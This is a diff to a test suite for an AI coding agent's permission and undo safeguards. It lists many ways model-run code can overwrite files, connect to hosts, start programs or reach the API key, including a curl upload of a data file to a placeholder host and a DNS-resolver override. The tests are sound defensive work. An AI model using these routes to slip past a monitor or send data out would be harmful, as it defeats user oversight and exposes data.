@@ -13,7 +13,7 @@ import sys
 import threading
 import time
 import weakref
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from pathlib import Path
 from typing import Any
 
@@ -26,7 +26,7 @@ from ipyagent.journal.events import FileChanged, LayerFailed, PermissionAsked, T
 from ipyagent.journal.protocols import PermissionAnswer
 from ipyagent.kernel import audit
 from ipyagent.loop.watching import CodeWatch, _is_scratch
-from ipyagent.practice.replies import text, tool
+from ipyagent.practice.replies import Reply, calls, text, tool
 from ipyagent.practice.server import PracticeServer
 
 CSV = b"a,b\r\n" + b"".join(f"{n},{n * 7 % 13}\n".encode() for n in range(40))
@@ -55,35 +55,48 @@ class Desk:
 
     def __init__(self, place: Path, server: PracticeServer, **settings: Any) -> None:
         self.folder, self.server, self.person = place / "project", server, Person()
-        self.folder.mkdir(exist_ok=True)
-        self.fill()
+        fill(self.folder)
         quiet = {"layer_notes": False, "extraction": False, "mode": "auto"}
         made = IPyAgent(environ={}, base_url=server.url, model=MODEL, **{**quiet, **settings})
         self.agent = Agent(settings=made, folder=self.folder)
 
-    def fill(self) -> None:
-        for name, data in RAW.items():
-            path = self.folder / name
-            path.parent.mkdir(exist_ok=True)
-            if not path.is_file() or path.read_bytes() != data:
-                path.write_bytes(data)
-                path.chmod(0o644)
-
     def contents(self) -> dict[str, bytes]:
-        return {name: path.read_bytes() if (path := self.folder / name).is_file() else b"(gone)" for name in RAW}
+        return contents(self.folder)
 
     def run(self, code: str) -> str:
         """The result that the model reads."""
-        self.server.script(tool("python", {"code": code}), text("Done."))
-        ended = self.agent.prepare("go", Options(), self.person).run_blocking()
-        assert ended.status in ("finished", "stopped"), ended.message
+        return self.runs([code])[0]
+
+    def runs(self, codes: Sequence[str]) -> list[str]:
+        """The results of calls that the model makes at once."""
+        self.turn(calls([("python", {"code": code}) for code in codes]))
+        return [str(block) for block in self.last() if block["type"] == "tool_result"]
+
+    def last(self) -> list[dict[str, Any]]:
+        """What the model was told last."""
         body = self.server.messages[-1].body
         assert body is not None
-        return str(body["messages"][-1]["content"])
+        return body["messages"][-1]["content"]
+
+    def turn(self, *replies: Reply) -> None:
+        self.server.script(*replies, text("Done."))
+        ended = self.agent.prepare("go", Options(), self.person).run_blocking()
+        assert ended.status in ("finished", "stopped"), ended.message
 
     def events(self, kind: type) -> list[Any]:
         session = self.agent.session
         return [event for event in session.journal.read() if isinstance(event, kind)] if session else []
+
+
+def fill(folder: Path) -> None:
+    for name, data in RAW.items():
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(data)
+
+
+def contents(folder: Path) -> dict[str, bytes]:
+    return {name: path.read_bytes() if (path := folder / name).is_file() else b"(gone)" for name in RAW}
 
 
 @pytest.fixture(scope="module")
@@ -132,7 +145,12 @@ def _raw() -> dict[str, bytes]:
     import pandas as pd
 
     table = pd.DataFrame({"a": range(40), "b": [n * 7 % 13 for n in range(40)]})
-    made: dict[str, bytes] = {"raw.csv": CSV, "data/one.csv": CSV[::-1], "data/two.csv": CSV * 2, "raw.txt": b"one\ntwo\n"}
+    made: dict[str, bytes] = {
+        "raw.csv": CSV,
+        "data/one.csv": CSV[::-1],
+        "data/two.csv": CSV * 2,
+        "raw.txt": b"one\ntwo\n",
+    }
     with tempfile.TemporaryDirectory() as place:
         folder = Path(place)
         for name, write in (
@@ -241,37 +259,32 @@ OVERWRITES: dict[str, list[str]] = {
         "import os\nos.waitpid(os.posix_spawn('/bin/cp', ['cp', 'raw.txt', 'raw.csv'], {}), 0)",
     ],
 }  # fmt: skip
-WAYS = [(kind, code) for kind, codes in OVERWRITES.items() for code in codes]
 
 
 def test_there_are_as_many_ways_as_were_found_by_attack() -> None:
-    assert len(WAYS) >= 85
+    assert sum(map(len, OVERWRITES.values())) >= 85
 
 
-@pytest.mark.parametrize(("kind", "code"), WAYS, ids=[f"{kind}-{n}" for n, (kind, _) in enumerate(WAYS)])
-def test_a_raw_file_that_code_overwrites_comes_back_or_was_asked_about(desk: Desk, kind: str, code: str) -> None:
-    desk.fill()
+@pytest.mark.parametrize("kind", OVERWRITES)
+def test_raw_files_that_code_overwrites_come_back_or_were_asked_about(desk: Desk, kind: str) -> None:
+    """Each way in a folder of its own, all in one turn."""
+    folders = [desk.folder / f"{kind[:6]} {n}" for n in range(len(OVERWRITES[kind]))]
+    for folder in folders:
+        fill(folder)
     desk.person.asked.clear()
-    before = desk.contents()
-    result = desk.run(code)
-    after = desk.contents()
-    try:
-        assert after != before, f"nothing was overwritten: {result}"
-        if kind == "commands":
-            assert desk.person.asked, "a program was not asked about"
-            assert all(asked.danger for asked in desk.person.asked)
-        else:
-            desk.agent.undo()
-            assert desk.contents() == before
-    finally:
-        for name in ("new.csv", "new.zip", "new.tar", "s", "l", "x"):
-            path = desk.folder / name
-            if path.is_dir():
-                for each in path.iterdir():
-                    each.unlink()
-                path.rmdir()
-            elif path.is_symlink() or path.exists():
-                path.unlink()
+    codes = [
+        each for folder, code in zip(folders, OVERWRITES[kind], strict=True) for each in (f"%cd -q {folder}", code)
+    ]
+    said = desk.runs([*codes, f"%cd -q {desk.folder}"])[1::2]
+    for folder, code, result in zip(folders, OVERWRITES[kind], said, strict=False):
+        assert contents(folder) != RAW, f"{code}\noverwrote nothing: {result}"
+    if kind == "commands":
+        assert len({asked.call for asked in desk.person.asked}) == len(folders), "a program was not asked about"
+        assert all(asked.danger for asked in desk.person.asked)
+    else:
+        desk.agent.undo()
+        for folder, code in zip(folders, OVERWRITES[kind], strict=True):
+            assert contents(folder) == RAW, code
 
 
 # ------------------------------------------------------------------ sending
@@ -338,8 +351,8 @@ SENDS = {
     "xmlrpc": "import xmlrpc.client\nxmlrpc.client.ServerProxy('http://HOST:PORT/').f(1)",
     "logging": "import logging.handlers as h, logging\nh.SysLogHandler(('HOST', PORT)).emit(logging.makeLogRecord({'msg': 'x'}))",
     "multiprocessing": "from multiprocessing.connection import Client\nClient(('HOST', PORT))",
-    "own resolver": "import socket, requests\nsocket.getaddrinfo = lambda *a, **k: [(2, 1, 6, '', ('HOST', PORT))]\ntry:\n"
-    "    requests.get('http://files.example.org/', timeout=1)\nfinally:\n    import importlib; importlib.reload(socket)",
+    "own resolver": "import socket, requests\nwas = socket.getaddrinfo\nsocket.getaddrinfo = lambda *a, **k: [(2, 1, 6, '', ('HOST', PORT))]\ntry:\n"
+    "    requests.get('http://files.example.org/', timeout=1)\nfinally:\n    socket.getaddrinfo = was",
 }  # fmt: skip
 PROGRAMS = {
     "curl": "import subprocess\nsubprocess.run(['curl', '-m1', '-T', 'raw.csv', 'http://HOST:PORT/'])",
@@ -362,38 +375,37 @@ def _for(code: str, listener: Listener) -> str:
     return code.replace("HOST", listener.host).replace("PORT", str(listener.port))
 
 
-@pytest.mark.parametrize("way", SENDS)
-def test_a_host_is_asked_about_once_and_hears_nothing_when_refused(desk: Desk, listener: Listener, way: str) -> None:
-    person, code = desk.person, _for(SENDS[way], listener)
-    person.asked, person.no = [], (listener.host,)
-    refused = desk.run(code)
+@pytest.mark.parametrize(("ways", "asks"), [(SENDS, "connect to HOST"), (PROGRAMS, "run ")], ids=["hosts", "programs"])
+def test_hosts_and_programs_are_asked_about_once_and_nothing_is_heard_when_refused(
+    desk: Desk, ways: dict[str, str], asks: str
+) -> None:
+    """All ways in one turn, each to a host of its own."""
+    listeners = {way: Listener(f"127.0.0.{next(_NUMBER)}") for way in ways}
+    asked = {way: asks.replace("HOST", each.host) for way, each in listeners.items()}
+    codes = [_for(code, listeners[way]) for way, code in ways.items()]
+    person = desk.person
+    person.asked, person.no = [], tuple({*asked.values()})
+    refused = dict(zip(ways, desk.runs(codes), strict=True))
     time.sleep(0.02)
-    assert listener.heard == 0
-    assert [asked.title for asked in person.asked] == [f"Let this code connect to {listener.host}?"]
-    assert f"did not allow this code to connect to {listener.host}" in refused or way in ("thread", "logging"), refused
+    assert [way for way in ways if listeners[way].heard] == []
+    if ways is SENDS:
+        assert titles(desk) == [f"Let this code {each}?" for each in asked.values()]
+    else:
+        assert all(
+            listeners[way].host in one.text for way, one in zip(ways, person.asked, strict=True)
+        )  # the whole command
+    for way in {*ways} - {"thread", "logging"}:  # whose error reaches nobody
+        assert f"did not allow this code to {asked[way]}" in refused[way]
     person.asked, person.no = [], ()
-    desk.run(code)
-    desk.run(code)
-    until = time.monotonic() + 2
-    while not listener.heard and time.monotonic() < until:
-        time.sleep(0.01)
-    assert listener.heard, "the way leads nowhere"
-    assert len(person.asked) == 1
-
-
-@pytest.mark.parametrize("way", PROGRAMS)
-def test_a_program_is_asked_about_once_and_does_not_start_when_refused(desk: Desk, listener: Listener, way: str) -> None:
-    person, code = desk.person, _for(PROGRAMS[way], listener)
-    person.asked, person.no = [], ("run ",)
-    refused = desk.run(code)
-    time.sleep(0.02)
-    assert listener.heard == 0
-    assert len(person.asked) == 1
-    assert "did not allow this code to run" in refused
-    assert listener.host in person.asked[0].text  # the whole command
-    person.asked, person.no = [], ()
-    again = desk.run(code) + desk.run(code)
-    assert len(person.asked) == 1, again
+    again = desk.runs(codes) + desk.runs(codes)
+    assert len(person.asked) == len(ways), again
+    if ways is SENDS:
+        until = time.monotonic() + 2
+        while (deaf := [way for way in ways if not listeners[way].heard]) and time.monotonic() < until:
+            time.sleep(0.01)
+        assert deaf == [], [(way, said) for way, said in zip([*ways, *ways], again, strict=True) if way in deaf]
+    for each in listeners.values():
+        each.close()
 
 
 def test_a_name_is_asked_about_before_it_is_looked_up(desk: Desk) -> None:
@@ -426,13 +438,17 @@ CHILDREN = {
 }
 
 
-@pytest.mark.parametrize("way", CHILDREN)
-def test_what_code_starts_does_not_get_the_models_key(desk: Desk, way: str) -> None:
-    desk.person.no = ()
+def test_what_code_starts_does_not_get_the_models_key(room: Any) -> None:
+    desk = room()
     command = "COMMAND = 'test -n \"$ANTHROPIC_API_KEY\" && echo with a key || echo without a key'\n"
-    result = desk.run(command + CHILDREN[way] + "\nimport os; print(len(os.environ['ANTHROPIC_API_KEY']))")
-    assert "without a key" in result
-    assert str(len(KEY)) in result  # the code itself has it
+    own = "\nimport os; print(len(os.environ['ANTHROPIC_API_KEY']))"
+    python = [("python", {"code": command + code + own}) for code in CHILDREN.values()]
+    desk.turn(calls([*python, ("shell", {"command": command[11:-2]})]))
+    *results, shell = [str(block) for block in desk.last() if block["type"] == "tool_result"]
+    for way, result in zip(CHILDREN, results, strict=True):
+        assert "without a key" in result, way
+        assert str(len(KEY)) in result  # the code itself has it
+    assert "without a key" in shell
     assert os.popen("echo $ANTHROPIC_API_KEY").read().strip() == KEY  # and so has the user afterwards
 
 
@@ -457,22 +473,19 @@ def test_a_file_that_the_code_read_is_asked_about_once_and_stays_when_refused(ro
 
 def test_the_time_that_the_user_takes_to_answer_is_not_the_codes(room: Any) -> None:
     desk = room()
-    desk.person.wait = 4.0
+    desk.person.wait = 2.0
     said = desk.run("t = open('raw.txt').read()\nopen('raw.txt', 'w').write('x')")
     assert titles(desk) == ["Let this code overwrite raw.txt?"]
     took = [float(seconds) for seconds in re.findall(r"took ([\d.]+) s", said)]
-    assert all(seconds < 3 for seconds in (*took, *(each.seconds for each in desk.events(ToolReturned))))
+    assert all(seconds < 1.9 for seconds in (*took, *(each.seconds for each in desk.events(ToolReturned))))
     assert all(each.seconds >= 0 for each in desk.events(ToolReturned))
 
 
 def test_what_was_refused_is_refused_in_the_next_call_too(room: Any) -> None:
     desk = room()
     desk.person.no = ("overwrite",)
-    desk.server.script(
-        tool("python", {"code": "t = open('raw.txt').read()\nopen('raw.txt', 'w').write(t)"}, id="one"),
-        tool("python", {"code": "open('raw.txt', 'w').write('x')"}, id="two"), text("done"),
-    )  # fmt: skip
-    desk.agent.prepare("go", Options(), desk.person).run_blocking()
+    desk.turn(tool("python", {"code": "t = open('raw.txt').read()\nopen('raw.txt', 'w').write(t)"}),
+              tool("python", {"code": "open('raw.txt', 'w').write('x')"}))  # fmt: skip
     assert desk.contents() == RAW
     assert titles(desk) == ["Let this code overwrite raw.txt?"]
 
@@ -542,9 +555,7 @@ def test_tasks_that_outlive_the_run_are_watched_and_threads_have_backups(room: A
     assert desk.contents() == RAW
 
 
-def test_the_users_own_cells_are_not_watched(
-    room: Any, listener: Listener, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_the_users_own_cells_are_not_watched(room: Any, listener: Listener, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(audit, "_left", weakref.WeakKeyDictionary())  # threads that other tests left
     desk = room()
     desk.run("x = 1")
@@ -583,19 +594,12 @@ def test_a_wide_rule_allows_the_usual_and_not_what_cannot_be_undone(room: Any, t
     assert (desk.folder / "raw.csv").exists()
 
 
-def test_a_shell_command_does_not_get_the_models_key(room: Any) -> None:
-    desk = room()
-    command = 'test -n "$ANTHROPIC_API_KEY" && echo with a key || echo without a key'
-    desk.server.script(tool("shell", {"command": command}), text("Done."))
-    desk.agent.prepare("go", Options(), desk.person).run_blocking()
-    body = desk.server.messages[-1].body or {}
-    assert "without a key" in str(body["messages"][-1]["content"])
-
-
 @pytest.mark.parametrize("mode", ["ask", "auto"])
 def test_recorded_code_that_runs_again_is_watched(room: Any, listener: Listener, mode: str) -> None:
     desk = room(mode=mode)
-    desk.run(_for("import os, socket\nif os.path.exists('again'):\n    socket.create_connection(('HOST', PORT))", listener))
+    desk.run(
+        _for("import os, socket\nif os.path.exists('again'):\n    socket.create_connection(('HOST', PORT))", listener)
+    )
     recording = desk.agent.recorded("go", "", again=True)
     assert recording is not None
     (desk.folder / "again").touch()
@@ -653,11 +657,12 @@ def test_what_an_earlier_turn_made_comes_back_without_a_question(room: Any, way:
     own = desk.folder / "own"
     name = "bytes([111, 119, 110]).decode()"  # unnamed, else there is a copy in any case
     for n in range(3):
-        write = [f"import os; n = {name}; os.path.exists(n) and open(n).read(); open(n, 'w').write('{n} {m}')" for m in "ab"]
-        calls = [tool("python", {"code": each}) if way == "python" else
+        write = [
+            f"import os; n = {name}; os.path.exists(n) and open(n).read(); open(n, 'w').write('{n} {m}')" for m in "ab"
+        ]
+        asked = [tool("python", {"code": each}) if way == "python" else
                  tool("shell", {"command": f'python3 -c "{each}"'}) for each in write]  # fmt: skip
-        desk.server.script(*calls, text("Done."))
-        desk.agent.prepare("go", Options(), desk.person).run_blocking()
+        desk.turn(*asked)
     assert own.read_text() == "2 b"
     for left in ("1 b", "0 b"):
         desk.agent.undo()
@@ -687,8 +692,7 @@ def test_what_one_call_removes_and_the_next_writes_comes_back(room: Any) -> None
     name = "name = bytes([114, 97, 119, 46, 99, 115, 118]).decode()\n"
     again = [tool("python", {"code": f"{name}{code}"}) for code in
              ("import os\nos.remove(name)", "open(name, 'w').write('1')", "open(name, 'w').write('2')")]  # fmt: skip
-    desk.server.script(*again, text("Done."))
-    desk.agent.prepare("go", Options(), desk.person).run_blocking()
+    desk.turn(*again)
     assert (desk.folder / "raw.csv").read_text() == "2"
     desk.agent.undo()
     assert desk.contents() == RAW
